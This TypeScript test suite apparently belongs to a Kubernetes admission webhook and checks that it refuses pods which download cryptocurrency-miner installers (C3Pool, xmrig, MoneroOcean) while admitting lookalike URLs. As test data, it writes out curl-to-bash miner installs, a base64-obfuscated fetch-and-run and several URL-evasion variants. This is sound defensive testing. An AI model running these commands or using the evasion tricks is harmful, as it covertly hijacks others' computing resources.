// Downloads from the sources of intel/installers.yaml are refused by themselves, naming the
// entry's source and date; URLs that only look alike, and documentation that mentions them, are not.
import { cp, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import t from 'tap'
import { compileInstallerFinder, normalisedPath } from '../../src/detect/installer-urls.ts'
import { evaluate } from '../../src/engine/evaluate.ts'
import type { PolicySet } from '../../src/engine/types.ts'
import { importIntelFiles } from '../../src/intel/import.ts'
import type { InstallerEntry } from '../../src/intel/types.ts'
import { loadPolicySet } from '../../src/policy/load.ts'
import { growthRatio, LINEAR_RATIO_LIMIT, repeatedTo } from '../helpers/linear-cost.ts'
import { DEFAULT_POLICIES, defaultPolicies } from '../helpers/server.ts'

const policySet = await defaultPolicies()
const C3POOL = '(C3Pool, 2026-12)'
const XMRIG = '(xmrig project, 2026-12)'

type Container = Record<string, unknown>

function pod(container: Container, extra: Record<string, unknown> = {}) {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'p', namespace: 'ns', ...extra },
    spec: { containers: [{ name: 'c', image: 'alpine:3.20', ...container }] },
  }
}

/** The miner-signals findings that cite an installer entry. */
function installerFindings(container: Container, policies: PolicySet = policySet, extra?: Record<string, unknown>): string[] {
  return evaluate({ object: pod(container, extra) }, policies)
    .findings.filter((finding) => finding.policy === 'miner-signals' && finding.message.includes('downloads a miner installer'))
    .map((finding) => finding.message)
}

const sh = (script: string): Container => ({ command: ['sh', '-c', script] })

const refused: [string, Container, string][] = [
  [
    "C3Pool's one-line setup piped to bash",
    sh('curl -sL https://raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh | bash -s WALLET'),
    `command[2]: downloads a miner installer from "raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh" ${C3POOL}`,
  ],
  [
    'an xmrig release fetched by wget in args',
    { command: ['wget'], args: ['https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz'] },
    `args[0]: downloads a miner installer from "github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz" ${XMRIG}`,
  ],
  [
    "C3Pool's download host over plain http",
    sh('wget http://download.c3pool.org/xmrig_setup/raw/master/xmrig.tar.gz -O /tmp/x.tgz'),
    `command[2]: downloads a miner installer from "download.c3pool.org/xmrig_setup/raw/master/xmrig.tar.gz" ${C3POOL}`,
  ],
  [
    'a URL without a scheme',
    sh('wget -q download.c3pool.org/xmrig.tar.gz'),
    `command[2]: downloads a miner installer from "download.c3pool.org/xmrig.tar.gz" ${C3POOL}`,
  ],
  [
    'an upper-case scheme and a mixed-case host',
    sh('curl -L HTTPS://GitHub.COM/xmrig/xmrig/releases/download/v6.21.0/x.tgz -o x.tgz'),
    `command[2]: downloads a miner installer from "GitHub.COM/xmrig/xmrig/releases/download/v6.21.0/x.tgz" ${XMRIG}`,
  ],
  [
    'www. before the host',
    sh('curl -LO https://www.github.com/xmrig/xmrig/releases/latest'),
    `command[2]: downloads a miner installer from "www.github.com/xmrig/xmrig/releases/latest" ${XMRIG}`,
  ],
  [
    'a port',
    sh('curl -LO https://github.com:443/xmrig/xmrig/releases/latest'),
    `command[2]: downloads a miner installer from "github.com:443/xmrig/xmrig/releases/latest" ${XMRIG}`,
  ],
  [
    'credentials before the host',
    sh('curl -LO https://x:y@github.com/xmrig/xmrig/releases/latest'),
    `command[2]: downloads a miner installer from "github.com/xmrig/xmrig/releases/latest" ${XMRIG}`,
  ],
  [
    'a percent-encoded path',
    sh('curl -LO https://github.com/%78mrig/xmrig/%72eleases/latest'),
    `command[2]: downloads a miner installer from "github.com/%78mrig/xmrig/%72eleases/latest" ${XMRIG}`,
  ],
  [
    'dot segments and doubled slashes, resolved as curl does',
    sh('curl -LO https://github.com/xmrig//tools/../xmrig/./releases/latest'),
    `command[2]: downloads a miner installer from "github.com/xmrig//tools/../xmrig/./releases/latest" ${XMRIG}`,
  ],
  [
    'the host written as a fully qualified name',
    sh('curl -LO https://download.c3pool.org./xmrig.tar.gz'),
    `command[2]: downloads a miner installer from "download.c3pool.org./xmrig.tar.gz" ${C3POOL}`,
  ],
  [
    'a subdomain of a host-only entry',
    sh('curl -LO https://cdn-2.download.c3pool.org/xmrig.tar.gz'),
    `command[2]: downloads a miner installer from "cdn-2.download.c3pool.org/xmrig.tar.gz" ${C3POOL}`,
  ],
  [
    'the releases page itself, the prefix exactly',
    { command: ['curl', 'https://github.com/xmrig/xmrig/releases'] },
    `command[1]: downloads a miner installer from "github.com/xmrig/xmrig/releases" ${XMRIG}`,
  ],
  [
    'a URL joined by the kubelet from $(VAR)',
    { env: [{ name: 'OWNER', value: 'xmrig' }], command: ['wget', 'https://github.com/$(OWNER)/xmrig/releases/download/v6.21.0/x.tgz'] },
    `command[1]: downloads a miner installer from "github.com/xmrig/xmrig/releases/download/v6.21.0/x.tgz" ${XMRIG}`,
  ],
  [
    'a URL joined by the shell from $A$B',
    {
      env: [
        { name: 'A', value: 'https://download.c3' },
        { name: 'B', value: 'pool.org/xmrig.tar.gz' },
      ],
      command: ['sh', '-c', 'wget $A$B'],
    },
    `command[2] (shell-expanded): downloads a miner installer from "download.c3pool.org/xmrig.tar.gz" ${C3POOL}`,
  ],
  [
    'a script hidden in base64 and run by a shell',
    sh(
      `echo ${Buffer.from('curl -sL https://raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh | bash').toString('base64')} | base64 -d | sh`,
    ),
    `command[2] (base64-decoded): downloads a miner installer from "raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh" ${C3POOL}`,
  ],
  [
    'a download URL kept in an env value',
    { env: [{ name: 'MINER_URL', value: 'https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz' }], command: ['/entry.sh'] },
    `env[0].value: downloads a miner installer from "github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz" ${XMRIG}`,
  ],
  [
    "MoneroOcean's setup inside a python one-liner",
    {
      command: [
        'python3',
        '-c',
        "import os;os.system('curl -s https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh|bash')",
      ],
    },
    `command[2]: downloads a miner installer from "raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_mine…" (MoneroOcean, 2026-12)`,
  ],
  [
    'a listed URL in the query of another (a redirector)',
    sh('curl -LO "https://github.com/acme/app/releases?from=download.c3pool.org/x.tgz"'),
    `command[2]: downloads a miner installer from "download.c3pool.org/x.tgz" ${C3POOL}`,
  ],
]

for (const [name, container, message] of refused) {
  t.test(`refused: ${name}`, async (t) => {
    t.same(installerFindings(container), [`spec.containers[0] "c": ${message} (miner-signals)`])
  })
}

t.test('refused: a script in a pod annotation that a downwardAPI volume mounts and the container runs', async (t) => {
  const container = { command: ['sh', '/etc/podinfo/run'], volumeMounts: [{ name: 'info', mountPath: '/etc/podinfo' }] }
  const object = pod(container, { annotations: { run: 'wget -qO- download.c3pool.org/xmrig_setup/setup.sh | sh' } })
  ;(object.spec as Record<string, unknown>).volumes = [
    { name: 'info', downwardAPI: { items: [{ path: 'run', fieldRef: { fieldPath: "metadata.annotations['run']" } }] } },
  ]
  const messages = evaluate({ object }, policySet).findings.filter((finding) => finding.message.includes('downloads a miner installer'))
  t.equal(messages.length, 1)
  t.match(messages[0]?.message, `downloads a miner installer from "download.c3pool.org/xmrig_setup/setup.sh" ${C3POOL}`)
})

t.test('a container downloading from two sources is refused once for each', async (t) => {
  const findings = installerFindings(
    sh('curl -sL download.c3pool.org/a.sh | sh; curl -sL download.c3pool.org/b.sh | sh; wget github.com/xmrig/xmrig/releases/x'),
  )
  t.equal(findings.length, 2)
})

const admitted: [string, Container][] = [
  ['another repository of the same owner', sh('git clone https://github.com/xmrig/xmrig-proxy-docs')],
  ['an owner whose name starts like a listed one', sh('curl -LO https://github.com/xmrigger/tools/releases/download/v1/t.tgz')],
  ['a path that only starts with the prefix, not at a segment boundary', sh('curl -LO https://github.com/xmrig/xmrig/releasesX/notes')],
  ['the repository but not its releases', sh('curl -LO https://github.com/xmrig/xmrig/blob/master/README.md')],
  ['a host that ends like a listed one', sh('curl -LO https://evilgithub.com/xmrig/xmrig/releases/x')],
  ['a listed host as the start of a longer name', sh('curl -LO https://github.com.example.net/xmrig/xmrig/releases/x')],
  ['a listed host with a longer top-level label', sh('curl -LO https://github.community/xmrig/xmrig/releases/x')],
  ['a subdomain of a host that has only path entries', sh('curl -LO https://gist.github.com/xmrig/xmrig/releases/x')],
  [
    'a README-like env value that documents the installer',
    {
      command: ['/app/server'],
      env: [
        {
          name: 'README',
          value:
            'This chart does not mine anything. Miners are usually installed with curl -sL https://raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh and the webhook refuses that.',
        },
      ],
    },
  ],
]

for (const [name, container] of admitted) {
  t.test(`admitted: ${name}`, async (t) => {
    t.same(installerFindings(container), [])
  })
}

t.test('a README value that a command echoes into a shell is read where it runs', async (t) => {
  const readme = 'Miners are usually installed with the command below, which this chart never runs. curl -sL download.c3pool.org/setup.sh | sh'
  t.same(installerFindings({ command: ['/app/server'], env: [{ name: 'README', value: readme }] }), [])
  t.equal(installerFindings({ command: ['sh', '-c', 'eval "$README"'], env: [{ name: 'README', value: readme }] }).length, 1)
})

t.test('paths are compared as the server reads them', async (t) => {
  t.equal(normalisedPath('/XMRig//a/./b/../Releases/'), 'xmrig/a/releases')
  t.equal(normalisedPath('/%2e%2e/x%zz'), 'x%zz')
  t.equal(normalisedPath(''), '')
})

t.test('without installer entries nothing is looked for', async (t) => {
  t.same(compileInstallerFinder([])([{ field: 'command[0]', text: 'curl download.c3pool.org/x' }]), [])
})

t.test('a prefix is matched at a segment boundary whatever its spelling in the intel file', async (t) => {
  const entry: InstallerEntry = { prefix: 'Example.org/Tools/', source: 'test', date: '2026' }
  const find = compileInstallerFinder([entry, { prefix: 'example.org/tools/miner', source: 'longer', date: '2026' }])
  const sources = (text: string) => find([{ field: 'args[0]', text }]).map((download) => download.entry.source)
  t.same(sources('example.org/tools/miner/x'), ['longer'])
  t.same(sources('example.org/tools/other'), ['test'])
  t.same(sources('example.org/toolsbox'), [])
  t.same(sources('example.org:x/tools'), [])
  t.same(sources('example.org.'), [])
  t.same(sources('www.example.org/tools'), ['test'])
  t.same(sources('~www.example.org/tools|sh'), ['test'])
  t.same(sources('files.example.org/tools/x'), [])
  t.same(find([{ field: 'data', text: 'example.org/tools', configOnly: true }]), [])
})

t.test('an imported installer list reaches a denial naming its source and date', async (t) => {
  const dir = t.testdir()
  await cp(DEFAULT_POLICIES, dir, { recursive: true })
  const list = join(dir, 'installers.txt')
  await writeFile(list, '# from a threat report\nhxxps://files.example-miner[.]net/setup\n')
  const report = await importIntelFiles([list], { policies: dir, kind: 'installers', source: 'Example CERT', date: '2026-11' })
  t.equal(report.added, 1)
  const set = await loadPolicySet(dir)
  t.same(installerFindings(sh('curl -fsSL https://files.example-miner.net/setup/run.sh | sh'), set), [
    `spec.containers[0] "c": command[2]: downloads a miner installer from "files.example-miner.net/setup/run.sh" (Example CERT, 2026-11) (miner-signals)`,
  ])
  t.same(installerFindings(sh('curl -fsSL https://files.example-miner.net/setuptools.sh | sh'), set), [])
})

t.test('finding installer URLs stays linear in the text', async (t) => {
  const find = compileInstallerFinder([
    { prefix: 'github.com/xmrig/xmrig/releases', source: 'a', date: '2026' },
    { prefix: 'download.c3pool.org', source: 'b', date: '2026' },
  ])
  for (const [name, unit] of [
    ['a listed host repeated in one path', 'github.com/'],
    ['a listed host after a long host name', 'agithub.com.'],
    ['subdomains', 'a.download.c3pool.org '],
    ['dot segments', '/..'],
    ['percent escapes', '%2f'],
    ['escaped dots in one host', 'github%2ecom%2e'],
    ['escaped hosts, one per word', 'github%2ecom '],
    ['escaped UTF-8 dots between path segments', '/x%E3%80%82'],
  ] as const) {
    const ratio = growthRatio(
      (size) => [{ field: 'args[0]', text: `github.com/${repeatedTo(unit, size)}` }],
      (texts) => find(texts),
    )
    t.ok(ratio < LINEAR_RATIO_LIMIT, `${name}: cost ratio ${ratio.toFixed(1)}`)
  }
})
